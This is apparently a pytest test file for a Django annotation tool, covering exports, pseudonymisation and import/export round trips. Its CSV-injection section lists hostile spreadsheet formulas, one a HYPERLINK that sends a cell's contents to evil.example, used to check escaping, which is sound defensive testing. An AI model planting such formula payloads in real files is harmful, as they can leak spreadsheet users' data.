"""Exports: every vote and gold label, streamed in chunks, and a round trip
import -> export -> import into a new project that loses nothing."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from annotator.errors import DomainError
from annotator.models import Gold, Item, Membership, Vote
from annotator.services import exports, image_assets, imports
from annotator.services.bulk import AnnotationRow, write_annotations
from annotator.services.gold import adjudicate
from tests.annotator.fixtures.datasets import image_bytes
from tests.factories import ItemFactory, make_member, make_project

LABELS = {"desire": "family", "sentiment": "positive", "emotion": "happiness"}


@pytest.fixture
def labelled(project, annotator, other_annotator, lead):
    """Items with images (one shared), text-only and image-only items, a
    tie, adjudicated and imported gold, text-round votes and metadata."""
    third = make_member(project, username="tia-annotator")
    red = image_assets.save_image_asset(data=image_bytes("red"))
    blue = image_assets.save_image_asset(data=image_bytes("blue", "PNG"))
    a = ItemFactory(
        project=project,
        external_id="a",
        text="Mum and baby",
        image=red,
        split="train",
        metadata={"title": "Family", "inference_order": ["desire", "sentiment", "emotion"]},
    )
    b = ItemFactory(project=project, external_id="b", text="", image=blue, split="dev")
    c = ItemFactory(project=project, external_id="c", text="A quiet lake, nobody around", split="test")
    d = ItemFactory(project=project, external_id="d", text="Same photo, new caption", image=red, split="train")
    rows = [
        AnnotationRow(a.pk, annotator.pk, LABELS, inference_order=("desire", "sentiment", "emotion"), duration_ms=1200),
        AnnotationRow(
            a.pk,
            other_annotator.pk,
            {**LABELS, "desire": "romance"},
            inference_order=("sentiment", "emotion", "desire"),
        ),
        AnnotationRow(a.pk, third.pk, LABELS, duration_ms=800),
        AnnotationRow(a.pk, annotator.pk, {"sentiment": "neutral"}, round="text", duration_ms=300),
        AnnotationRow(b.pk, annotator.pk, {"desire": "none", "sentiment": "neutral", "emotion": "neutral"}),
        AnnotationRow(b.pk, other_annotator.pk, {"desire": "curiosity", "sentiment": "neutral", "emotion": "neutral"}),
        AnnotationRow(c.pk, third.pk, {"desire": "tranquility", "sentiment": "positive", "emotion": "neutral"}),
    ]
    write_annotations(project=project, rows=rows)
    desire = project.tasks.get(key="desire")
    adjudicate(item=b, task=desire, label=desire.labels.get(key="none"), lead=lead)
    Gold.objects.create(item=d, task=desire, label=desire.labels.get(key="family"), source=Gold.Source.IMPORTED)
    return project


def item_set(project) -> set:
    return {
        (i.external_id, i.text, i.image.sha256 if i.image else None, i.split, json.dumps(i.metadata, sort_keys=True))
        for i in Item.objects.filter(project=project).select_related("image")
    }


def gold_set(project, *, with_source: bool = True) -> set:
    rows = Gold.objects.filter(item__project=project).values_list(
        "item__external_id", "task__key", "label__key", "source", "votes_for", "votes_total", "is_tie"
    )
    return {row if with_source else row[:3] for row in rows}


def vote_set(project) -> set:
    suffix = f".{project.slug}"
    return {
        (ext, name.removesuffix(suffix), round_, task, label, tuple(order), duration)
        for ext, name, round_, task, label, order, duration in Vote.objects.filter(item__project=project).values_list(
            "item__external_id",
            "annotator__username",
            "round",
            "task__key",
            "label__key",
            "annotation__inference_order",
            "annotation__duration_ms",
        )
    }


def test_the_csv_export_has_one_row_per_item_with_gold_columns_and_every_vote(labelled):
    _, content_type, chunks = exports.stream_export(project=labelled, fmt="csv", pseudonymise=False)
    rows = list(csv.DictReader(io.StringIO("".join(chunks))))

    assert content_type.startswith("text/csv")
    assert list(rows[0]) == exports.export_columns(labelled)
    assert [r["id"] for r in rows] == ["a", "b", "c", "d"]
    a = rows[0]
    assert (a["gold_desire"], a["gold_desire_source"], a["gold_desire_support"]) == ("family", "majority", "0.6667")
    assert a["image"].startswith("images/") and a["image"].endswith(".jpg")
    votes = json.loads(a["votes"])
    assert [(v["annotator"], v["round"]) for v in votes] == [
        ("ana-annotator", "multimodal"),
        ("otto-annotator", "multimodal"),
        ("tia-annotator", "multimodal"),
        ("ana-annotator", "text"),
    ]
    assert votes[0] == {
        "annotator": "ana-annotator",
        "round": "multimodal",
        "inference_order": ["desire", "sentiment", "emotion"],
        "duration_ms": 1200,
        "labels": LABELS,
    }
    assert rows[1]["gold_desire_source"] == "adjudicated"


def test_a_pseudonymised_export_names_annotators_by_their_pseudonym_only(labelled):
    _, _, chunks = exports.stream_export(project=labelled, fmt="jsonl", pseudonymise=True)
    text = "".join(chunks)

    pseudonyms = set(Membership.objects.filter(project=labelled).values_list("pseudonym", flat=True))
    names = {v["annotator"] for line in text.splitlines() for v in json.loads(line)["votes"]}
    assert names <= pseudonyms
    assert "ana-annotator" not in text and "otto-annotator" not in text


def test_export_queries_grow_with_chunks_of_items_not_with_votes(labelled, monkeypatch, annotator):
    monkeypatch.setattr(exports, "CHUNK_ITEMS", 2)

    def count_queries() -> int:
        with CaptureQueriesContext(connection) as ctx:
            list(exports.iter_export_rows(project=labelled))
        return len(ctx.captured_queries)

    before = count_queries()
    extra = [make_member(labelled, username=f"extra-{i}") for i in range(5)]
    write_annotations(
        project=labelled,
        rows=[AnnotationRow(i.pk, u.pk, LABELS) for i in Item.objects.filter(project=labelled) for u in extra],
    )
    assert count_queries() == before
    assert before <= 4 + 3 * 3  # schema and names, then items / gold / votes per chunk


def test_an_msed_zip_export_holds_the_release_layout(labelled):
    filename, content_type, chunks = exports.stream_export(project=labelled, fmt="msed", pseudonymise=True)
    archive = zipfile.ZipFile(io.BytesIO(b"".join(chunks)))

    assert filename.endswith("-msed.zip") and content_type == "application/zip"
    assert set(archive.namelist()) == {
        "train/train.csv",
        "train/images/1.jpg",
        "train/images/2.jpg",
        "dev/dev.csv",
        "dev/images/1.jpg",
        "test/test.csv",
    }
    train = list(csv.DictReader(io.StringIO(archive.read("train/train.csv").decode())))
    assert list(train[0])[:6] == ["Title", "Caption", "Sentiment", "Emotion", "Desire", "Inference Sequence"]
    assert (train[0]["Title"], train[0]["Desire"], train[0]["Inference Sequence"]) == ("Family", "Family", "D-S-E")
    assert archive.read("train/images/1.jpg") == archive.read("train/images/2.jpg")  # two items, one stored image


def test_an_unknown_format_is_refused(project):
    with pytest.raises(DomainError, match="choose csv, jsonl or msed"):
        exports.stream_export(project=project, fmt="xlsx")


def _new_project(lead, name: str):
    return make_project(lead=lead, name=name)


def test_a_csv_zip_round_trip_keeps_items_gold_and_votes(labelled, lead, tmp_path):
    _, _, chunks = exports.stream_export(project=labelled, fmt="csv", pseudonymise=False, with_images=True)
    archive = tmp_path / "export.zip"
    archive.write_bytes(b"".join(chunks))
    copy = _new_project(lead, "Copy via csv")

    report = imports.import_path(project=copy, path=archive)

    assert report.ok, report.errors
    assert item_set(copy) == item_set(labelled)
    assert gold_set(copy) == gold_set(labelled)
    assert vote_set(copy) == vote_set(labelled)
    assert list(Item.objects.filter(project=copy).order_by("external_id").values_list("vote_count", flat=True)) == [
        3,
        2,
        1,
        0,
    ]


def test_a_jsonl_round_trip_matches_votes_to_members_with_the_same_username(
    labelled, lead, annotator, other_annotator, tmp_path
):
    out = tmp_path / "out" / "items.jsonl"
    counts = exports.write_export(project=labelled, fmt="jsonl", path=out, with_images=True)
    copy = _new_project(lead, "Copy via jsonl")
    for user in (annotator, other_annotator):
        Membership.objects.create(project=copy, user=user, pseudonym=user.username)

    report = imports.import_path(project=copy, path=out)

    assert counts == {"items": 4, "votes": 19, "images": 2, "left_out": 0}
    assert report.ok, report.errors
    assert report.counts["annotators"] == 1  # only tia-annotator is new to the copy
    assert item_set(copy) == item_set(labelled)
    assert gold_set(copy) == gold_set(labelled)
    assert vote_set(copy) == vote_set(labelled)


def test_an_msed_folder_round_trip_keeps_items_gold_labels_and_votes(labelled, lead, tmp_path):
    out = tmp_path / "msed"
    exports.write_export(project=labelled, fmt="msed", path=out)
    copy = _new_project(lead, "Copy via msed")

    report = imports.import_path(project=copy, path=out)

    assert report.ok, report.errors
    assert (out / "train" / "images" / "2.jpg").exists() and not (out / "test" / "images" / "1.jpg").exists()
    assert item_set(copy) == item_set(labelled)
    assert gold_set(copy, with_source=False) == gold_set(labelled, with_source=False)
    assert vote_set(copy) == vote_set(labelled)


def test_an_msed_export_leaves_out_items_without_a_split(labelled, tmp_path):
    Item.objects.filter(external_id="c").update(split=Item.Split.UNASSIGNED)

    counts = exports.write_export(project=labelled, fmt="msed", path=tmp_path / "msed.zip")

    assert counts["left_out"] == 1 and counts["items"] == 3
    assert "test/test.csv" not in zipfile.ZipFile(tmp_path / "msed.zip").namelist()


def test_an_msed_export_refuses_a_folder_that_is_not_empty(labelled, tmp_path):
    (tmp_path / "busy").mkdir()
    (tmp_path / "busy" / "notes.txt").write_text("keep me")

    with pytest.raises(DomainError, match="not an empty folder"):
        exports.write_export(project=labelled, fmt="msed", path=tmp_path / "busy")


# ----------------------------------------------------------------- CSV formula injection

# Texts a spreadsheet would run as formulas, and texts that look escaped already.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+3+3",
    "@SUM(1+1)",
    "-2+3",
    "'=1+2",
    "''+1",
    "'plain quote",
    "2-3",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(project, annotator):
    """Items whose ids, texts and titles, and a label whose name, a spreadsheet would run."""
    desire = project.tasks.get(key="desire")
    family = desire.labels.get(key="family")
    family.name = "=1+2"
    family.save(update_fields=["name"])
    items = [
        ItemFactory(project=project, external_id=value, text=value, split="train", metadata={"title": value})
        for value in HOSTILE
    ]
    sneaky = make_member(project, username="@evil")
    write_annotations(
        project=project,
        rows=[AnnotationRow(items[0].pk, sneaky.pk, LABELS), AnnotationRow(items[0].pk, annotator.pk, LABELS)],
    )
    Gold.objects.create(item=items[1], task=desire, label=family, source=Gold.Source.IMPORTED)
    return project


def csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_escaping_is_the_owasp_rule_and_unescaping_inverts_it_exactly():
    from annotator.io.writers import escape_formula, unescape_formula

    cases = {
        "=1+2": "'=1+2",
        "+3": "'+3",
        "-2+3": "'-2+3",
        "@SUM(1)": "'@SUM(1)",
        "\tx": "'\tx",
        "\rx": "'\rx",
        "'=1+2": "''=1+2",
        "''@x": "'''@x",
        "'plain": "'plain",
        "2-3": "2-3",
        "": "",
        "'": "'",
        "a=b": "a=b",
    }
    for value, escaped in cases.items():
        assert escape_formula(value) == escaped
        assert unescape_formula(escape_formula(value)) == value
        assert not escape_formula(value).startswith(TRIGGERS)


def test_a_safe_csv_export_starts_no_cell_with_a_formula_character(hostile):
    _, _, chunks = exports.stream_export(project=hostile, fmt="csv", pseudonymise=False)
    cells = csv_cells("".join(chunks))

    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert "'-2+3" in cells and "'''=1+2" not in cells and "''=1+2" in cells and "'plain quote" in cells


def test_a_raw_csv_export_writes_the_exact_values(hostile):
    _, _, chunks = exports.stream_export(project=hostile, fmt="csv", pseudonymise=False, raw=True)
    ids = [row["id"] for row in csv.DictReader(io.StringIO("".join(chunks)))]

    assert ids == HOSTILE


def test_a_safe_msed_export_escapes_label_names_ids_titles_and_captions(hostile):
    _, _, chunks = exports.stream_export(project=hostile, fmt="msed", pseudonymise=False)
    train = zipfile.ZipFile(io.BytesIO(b"".join(chunks))).read("train/train.csv").decode()

    assert not [c for c in csv_cells(train) if c.startswith(TRIGGERS)]
    assert "'=1+2" in csv_cells(train)  # the label name of item "+3+3"


@pytest.mark.parametrize("raw", [False, True], ids=["safe", "raw"])
@pytest.mark.parametrize("fmt", ["csv", "msed"])
def test_hostile_values_round_trip_exactly_in_both_modes(hostile, lead, tmp_path, fmt, raw):
    out = tmp_path / ("export.csv" if fmt == "csv" else "msed")
    exports.write_export(project=hostile, fmt=fmt, path=out, raw=raw)
    copy = _new_project(lead, f"Copy {fmt} {raw}")
    family = copy.tasks.get(key="desire").labels.get(key="family")
    family.name = "=1+2"
    family.save(update_fields=["name"])

    report = imports.import_path(project=copy, path=out, raw=raw)

    assert report.ok, report.errors
    assert item_set(copy) == item_set(hostile)
    assert gold_set(copy, with_source=False) == gold_set(hostile, with_source=False)
    assert vote_set(copy) == vote_set(hostile)


def test_the_export_command_escapes_by_default_and_writes_raw_values_with_raw(hostile, tmp_path):
    from django.core.management import call_command

    call_command("export_items", hostile.slug, str(tmp_path / "safe.csv"), "--format", "csv", stdout=io.StringIO())
    call_command(
        "export_items", hostile.slug, str(tmp_path / "raw.csv"), "--format", "csv", "--raw", stdout=io.StringIO()
    )

    assert [r["id"] for r in csv.DictReader((tmp_path / "raw.csv").open(newline=""))] == HOSTILE
    assert not [c for c in csv_cells((tmp_path / "safe.csv").read_text()) if c.startswith(TRIGGERS)]


def test_the_export_page_offers_raw_values_for_scripts(hostile, lead_client):
    from django.urls import reverse

    url = reverse("annotator:export", args=[hostile.slug])
    safe = b"".join(lead_client.get(url, {"format": "csv"}).streaming_content).decode()
    raw = b"".join(lead_client.get(url, {"format": "csv", "values": "raw"}).streaming_content).decode()

    assert not [c for c in csv_cells(safe) if c.startswith(TRIGGERS)]
    assert [r["id"] for r in csv.DictReader(io.StringIO(raw))] == HOSTILE
    assert "Raw values (for scripts)" in lead_client.get(url).content.decode()
